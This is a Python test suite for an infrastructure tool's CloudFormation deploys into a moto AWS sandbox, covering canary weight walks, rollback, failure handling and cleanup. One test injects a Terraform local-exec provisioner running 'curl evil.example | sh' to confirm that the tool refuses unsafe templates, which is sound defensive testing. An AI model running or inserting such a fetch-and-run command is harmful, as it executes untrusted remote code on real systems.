"""CloudFormation deploys of chat_canary into a real moto sandbox: deploy, verify through
describe calls, canary walk, rollback, failure handling, a killed deploy, destroy to nothing."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys

import pytest

from isshoni.compiler import resolve
from isshoni.deploy import canary, runner, sandbox, targets
from isshoni.deploy.state import DeploymentState
from isshoni.design import Design
from sandbox import (
    added,
    cli,
    client,
    design_copy,
    job_states,
    rule_weights,
    running_sandbox,
    snapshot,
    wait_for,
    weighted_rule,
)

REGION = "ap-northeast-2"


@pytest.fixture(scope="module")
def sb(tmp_path_factory):
    with running_sandbox(tmp_path_factory.mktemp("deploy-state")) as sandbox_:
        targets.make("sandbox", REGION)  # prepared once (the ACM certificate), part of every baseline
        yield sandbox_


@pytest.fixture()
def before(sb):
    return snapshot(sb)


def _stack(sb, name):
    stacks = client(sb, "cloudformation").describe_stacks(StackName=f"isshoni-{name.replace('_', '-')}")["Stacks"]
    return stacks[0]


def test_cloudformation_end_to_end(sb, before, tmp_path):
    path = design_copy(tmp_path, "cc_cfn")
    result = cli("deploy", str(path), "--json")
    assert result.returncode == 0, result.stderr[-3000:]
    record = json.loads(result.stdout)
    assert record["state"] == "succeeded" and record["kind"] == "deploy" and record["engine"] == "cloudformation"

    # ---- what exists, seen through describe calls of our own
    stack = _stack(sb, "cc_cfn")
    assert stack["StackStatus"] == "CREATE_COMPLETE"
    assert {"Key": "isshoni:design", "Value": "cc_cfn"} in stack["Tags"]
    ec2 = client(sb, "ec2")
    (vpc,) = ec2.describe_vpcs(Filters=[{"Name": "tag:isshoni:design", "Values": ["cc_cfn"]}])["Vpcs"]
    assert vpc["CidrBlock"] == "10.0.0.0/16"
    subnets = ec2.describe_subnets(Filters=[{"Name": "vpc-id", "Values": [vpc["VpcId"]]}])["Subnets"]
    assert sorted(s["CidrBlock"] for s in subnets) == ["10.0.1.0/24", "10.0.11.0/24", "10.0.12.0/24", "10.0.2.0/24"]
    rule_arn, weights = weighted_rule(sb, "cc_cfn")
    assert sorted(weights.values()) == [10, 90]
    elb = client(sb, "elbv2")
    (lb,) = [x for x in elb.describe_load_balancers()["LoadBalancers"] if x.get("VpcId") == vpc["VpcId"]]
    listeners = elb.describe_listeners(LoadBalancerArn=lb["LoadBalancerArn"])["Listeners"]
    assert sorted(x["Port"] for x in listeners) == [80, 443]
    https = next(x for x in listeners if x["Port"] == 443)
    assert https["Certificates"][0]["CertificateArn"] == targets.make("sandbox", REGION).prepared["certificate_arn"]
    ecs = client(sb, "ecs")
    cluster = record["result"]["outputs"]["cluster_name"]
    services = ecs.describe_services(cluster=cluster, services=ecs.list_services(cluster=cluster)["serviceArns"])["services"]
    assert sorted(s["serviceName"].split("-")[-2] for s in services) == ["Blue", "Green"]
    # names start with the stack name: the design's tables are its own, beside any other deployment's
    tables = {"isshoni-cc-cfn-connections", "isshoni-cc-cfn-messages", "isshoni-cc-cfn-user-counter"}
    assert tables <= set(client(sb, "dynamodb").list_tables()["TableNames"])

    # ---- the honest report
    report = json.loads(open(record["result"]["report_file"]).read())
    parts = {p["lid"]: p for p in report["parts"]}
    assert parts["alb_to_blue_rule"]["status"] == "verified" and "weight of" in " ".join(parts["alb_to_blue_rule"]["checked"])
    for lid in ("redis", "redis_subnets", "errors_5xx", "latency_p95", "cdn", "certificate", "blue_connections_policy"):
        assert parts[lid]["status"] == "not_emulated" and parts[lid]["notes"], lid
    assert parts["blue"]["status"] == "created_but_settings_dropped"
    assert any("LaunchType" in d for d in parts["blue"]["dropped"])  # moto drops Fargate
    # never "created" when it is not: every verified part is found by our own describe calls
    now = snapshot(sb)
    for lid, kind in (("vpc", "vpcs"), ("public_a", "subnets"), ("alb", "load_balancers"), ("alb_to_blue_targets", "target_groups"),
                      ("connections", "tables"), ("blue_sg", "security_groups")):
        assert parts[lid]["status"] in ("verified", "created_but_settings_dropped") and parts[lid]["physical_id"] in now[kind], lid
    # moto's CloudFormation reports route table associations created but makes none: the report says missing
    tables = ec2.describe_route_tables(Filters=[{"Name": "vpc-id", "Values": [vpc["VpcId"]]}])["RouteTables"]
    associated = {a.get("SubnetId") for t in tables for a in t.get("Associations", []) if a.get("SubnetId")}
    assert parts["public_a_route_association"]["status"] == ("verified" if associated else "missing")
    summary = json.loads(path.read_text())["deployments"][record["id"]]["result"]["report"]
    assert summary["status"]["redis"] == "not_emulated" and summary["counts"]["not_emulated"] >= 10

    # ---- the automatic walk refuses to call a step healthy that it could not check (no targets run in
    # the sandbox, its alarms are not emulated): back to 100% blue, and it says how to walk on anyway
    result = cli("canary", str(path), "--auto", "--json")
    assert result.returncode == 1, result.stderr[-3000:]
    refused = json.loads(result.stdout)
    assert refused["state"] == "rolled_back" and refused["result"]["refused"]["green"] == 10
    assert "refused to call the 10% green step healthy" in refused["error"] and "--accept-unchecked" in refused["error"]
    assert "health not checked" in refused["error"] and "not emulated" in refused["error"]
    assert [s["green"] for s in refused["result"]["steps"]] == [10] and weights_by_role(sb, rule_arn, path) == (100, 0)
    # ---- told to accept unchecked steps, it walks, every step timed, and the job has warnings
    result = cli("canary", str(path), "--auto", "--accept-unchecked")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "canary succeeded with warnings" in result.stdout and "UNCHECKED" in result.stdout
    walk = runner.job_records(path)[0]
    assert walk["outcome"] == "succeeded with warnings" and len(walk["warnings"]) == 4
    assert [s["green"] for s in walk["result"]["steps"]] == [10, 50, 90, 100]
    assert all(s["ok"] and s["unchecked"] and s["apply_s"] > 0 for s in walk["result"]["steps"])
    assert rule_weights(sb, rule_arn) in ([0, 100], [100, 0]) and weights_by_role(sb, rule_arn, path) == (0, 100)

    # ---- rollback: one modify_rule, then the stack parameters follow
    result = cli("canary", str(path), "--rollback", "--json")
    assert result.returncode == 0, result.stderr[-3000:]
    rolled = json.loads(result.stdout)
    assert weights_by_role(sb, rule_arn, path) == (100, 0)
    assert rolled["result"]["rollback_s"] < 2 and "one modify_rule call" in json.dumps(rolled["events"])
    params = {p["ParameterKey"]: p["ParameterValue"] for p in _stack(sb, "cc_cfn")["Parameters"]}
    assert (params["BlueWeight"], params["GreenWeight"]) == ("100", "0")

    # ---- an ordinary update keeps the rolled-back weights
    job = runner.deploy(path)
    assert job.state == "succeeded" and job.kind == "update", job.error
    assert weights_by_role(sb, rule_arn, path) == (100, 0)

    # ---- a failing check in --auto rolls back (moto alarms never fire by themselves: set one to ALARM)
    cw = client(sb, "cloudwatch")
    alarm = canary.plans(resolve(Design.load(path)), "isshoni-cc-cfn")[0].alarms["errors_5xx"]
    assert alarm == "isshoni-cc-cfn-errors-5xx"
    cw.put_metric_alarm(AlarmName=alarm, MetricName="HTTPCode_Target_5XX_Count", Namespace="AWS/ApplicationELB",
                        Statistic="Sum", Period=60, EvaluationPeriods=2, Threshold=10, ComparisonOperator="GreaterThanOrEqualToThreshold")
    cw.set_alarm_state(AlarmName=alarm, StateValue="ALARM", StateReason="5xx burst (test)")
    try:
        job = runner.canary(path, auto=True)
    finally:
        cw.delete_alarms(AlarmNames=[alarm])
    assert job.state == "rolled_back" and "check failed at 10% green" in job.error
    assert job.result["steps"][0]["ok"] is False and "ALARM" in job.result["steps"][0]["failures"][0]
    assert weights_by_role(sb, rule_arn, path) == (100, 0)

    # ---- outputs and jobs
    result = cli("outputs", str(path), "--json")
    assert result.returncode == 0 and json.loads(result.stdout)["vpc_id"] == vpc["VpcId"]
    result = cli("jobs", str(path), "--json")
    kinds = [r["kind"] for r in json.loads(result.stdout)]
    assert result.returncode == 0 and kinds.count("canary") == 3 and "rollback" in kinds and "update" in kinds

    # ---- destroy: nothing of the design is left
    result = cli("destroy", str(path), "--json")
    assert result.returncode == 0, result.stderr[-3000:]
    assert added(before, snapshot(sb)) == {}
    states = job_states(path)
    assert sorted(states.values()).count("rolled_back") == 2 and all(s in ("succeeded", "rolled_back") for s in states.values())

    # ---- the sandbox's dummy credentials are in no design, log or state file
    state_root = os.environ["ISSHONI_STATE_DIR"]
    texts = [path.read_text()] + [open(os.path.join(d, f), errors="replace").read() for d, _, fs in os.walk(state_root)
                                  for f in fs if f.endswith((".json", ".log", ".jsonl", ".tf"))]
    assert not any(sandbox.SECRET_KEY in t or sandbox.ACCESS_KEY in t for t in texts)


def weights_by_role(sb, rule_arn, path) -> tuple[int, int]:
    """(blue, green) weights of the live rule, roles taken from the deployment's recorded target groups."""
    name = json.loads(path.read_text())["meta"]["name"]
    live = DeploymentState("sandbox", REGION, name).load()["canary"]["alb"]["live"]
    rule = client(sb, "elbv2").describe_rules(RuleArns=[rule_arn])["Rules"][0]
    groups = {g["TargetGroupArn"]: g["Weight"] for a in rule["Actions"] for g in a["ForwardConfig"]["TargetGroups"]}
    return groups[live["blue_tg_arn"]], groups[live["green_tg_arn"]]


def test_failing_create_shows_the_error_and_rolls_back(sb, before, tmp_path):
    def bad_zone(data):
        data["resources"]["private_c"]["properties"]["az"] = "z"  # a zone the sandbox (and AWS) rejects

    path = design_copy(tmp_path, "cc_bad", bad_zone)
    job = runner.deploy(path)
    assert job.state == "rolled_back"
    assert "InvalidParameterValue" in job.error and "ap-northeast-2z" in job.error
    record = json.loads(path.read_text())["deployments"][job.id]
    assert record["state"] == "rolled_back" and "InvalidParameterValue" in record["error"]
    assert added(before, snapshot(sb)) == {}
    # the design can be fixed and deployed: the broken stack is gone
    data = json.loads(path.read_text())
    data["resources"]["private_c"]["properties"]["az"] = "c"
    path.write_text(json.dumps(data))
    job = runner.deploy(path)
    assert job.state == "succeeded", job.error
    assert runner.destroy(path).state == "succeeded"
    assert added(before, snapshot(sb)) == {}


def test_killed_deploy_is_marked_interrupted_and_can_run_again(sb, before, tmp_path):
    path = design_copy(tmp_path, "cc_kill")
    proc = subprocess.Popen([sys.executable, "-m", "isshoni", "deploy", str(path)], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env=dict(os.environ))
    try:
        job_id = wait_for(lambda: next((k for k, s in job_states(path).items() if s == "running"), None), timeout=300, every=0.02)
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait(30)
    assert job_states(path)[job_id] == "running"  # the dead process could not say anything
    records = {r["id"]: r for r in runner.job_records(path)}  # any later start marks it
    assert records[job_id]["state"] == "interrupted" and str(proc.pid) in records[job_id]["error"]
    assert job_states(path)[job_id] == "interrupted"
    job = runner.deploy(path)
    assert job.state == "succeeded", job.error
    job = runner.destroy(path)
    assert job.state == "succeeded", job.error
    assert added(before, snapshot(sb)) == {}


def test_lambda_code_from_a_folder_is_uploaded_and_deployed(sb, before, tmp_path):
    """A function whose code is a folder next to the design: the deploy zips it, uploads it to the
    artifact bucket and creates the function from exactly those bytes; destroy leaves nothing of the
    design (the artifact bucket is the sandbox's own, like its certificate)."""
    import base64
    import hashlib

    from isshoni.compiler import package

    (tmp_path / "api").mkdir()
    (tmp_path / "api" / "index.py").write_text("def handler(event, context):\n    return {'statusCode': 200, 'body': 'from a folder'}\n")
    design = Design(name="code_folder", region=REGION)
    design.add("lambda_function", "api", properties={"code_path": "api"})
    path = design.save(tmp_path / "code_folder.infra.json")
    job = runner.deploy(path)
    assert job.state == "succeeded", job.error
    code = package.for_function(Design.load(path), "api", {"code_path": "api"})
    s3 = client(sb, "s3")
    bucket = f"isshoni-sandbox-artifacts-{REGION}"
    assert s3.get_object(Bucket=bucket, Key=code.key("code_folder"))["Body"].read() == code.data
    (function,) = [f for f in client(sb, "lambda").list_functions()["Functions"] if f["FunctionName"].endswith("-api")]
    assert function["CodeSha256"] == base64.b64encode(hashlib.sha256(code.data).digest()).decode()
    assert runner.destroy(path).state == "succeeded"
    left = added(before, snapshot(sb))
    assert left in ({}, {"buckets": [bucket]}), left


def test_destroy_refuses_a_stack_isshoni_did_not_create(sb, tmp_path):
    cf = client(sb, "cloudformation")
    template = {"Resources": {"Queue": {"Type": "AWS::SQS::Queue", "Properties": {"QueueName": "someone-elses"}}}}
    cf.create_stack(StackName="isshoni-foreign", TemplateBody=json.dumps(template), Tags=[{"Key": "owner", "Value": "ops"}])
    try:
        path = design_copy(tmp_path, "foreign")
        job = runner.destroy(path, engine="cloudformation")
        assert job.state == "failed" and "not tagged isshoni:design=foreign" in job.error
        assert _stack(sb, "foreign")["StackStatus"] == "CREATE_COMPLETE"
    finally:
        cf.delete_stack(StackName="isshoni-foreign")


def test_unsafe_terraform_is_refused_before_terraform_runs(sb, tmp_path, monkeypatch):
    from isshoni.compiler import terraform as tf_emit

    real = tf_emit.files

    def with_provisioner(resolved):
        files = real(resolved)
        files["extra.tf"] = 'resource "aws_s3_bucket" "b" {\n  provisioner "local-exec" {\n    command = "curl evil.example | sh"\n  }\n}\n'
        return files

    monkeypatch.setattr(tf_emit, "files", with_provisioner)
    path = design_copy(tmp_path, "cc_unsafe")
    job = runner.deploy(path, engine="terraform")
    assert job.state == "failed" and 'extra.tf:2: provisioner "local-exec"' in job.error
    assert "$ terraform" not in job.log_path.read_text()  # terraform never ran
    assert not (DeploymentState("sandbox", REGION, "cc_unsafe").workdir / "terraform" / ".terraform").exists()


def test_missing_terraform_is_said_clearly(sb, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.delenv("ISSHONI_TERRAFORM", raising=False)
    path = design_copy(tmp_path, "cc_notf")
    job = runner.deploy(path, engine="terraform")
    assert job.state == "failed" and "terraform engine is unavailable" in job.error and "no `terraform` binary" in job.error


def test_notebook_canary_refuses_unchecked_steps_unless_accepted(sb, before, tmp_path):
    import isshoni

    design = isshoni.open_template("chat_canary", tmp_path / "cc_nb.infra.json", name="cc_nb", live=False)
    deployed = design.deploy(progress=False)
    assert deployed.ok and deployed.outcome == "succeeded with warnings" and deployed.warnings, deployed.summary
    refused = design.canary(auto=True, progress=False)
    assert refused.state == "rolled_back" and refused.result["refused"]["green"] == 10, refused.summary
    assert "refused to call the 10% green step healthy" in refused.summary  # the reason is in what a cell shows
    walked = design.canary(auto=True, accept_unchecked=True, steps=(50, 100), progress=False)
    assert walked.ok and walked.outcome == "succeeded with warnings" and len(walked.warnings) == 2, walked.summary
    assert "succeeded with warnings" in walked._repr_html_()
    assert design.destroy(progress=False).ok
    assert added(before, snapshot(sb)) == {}
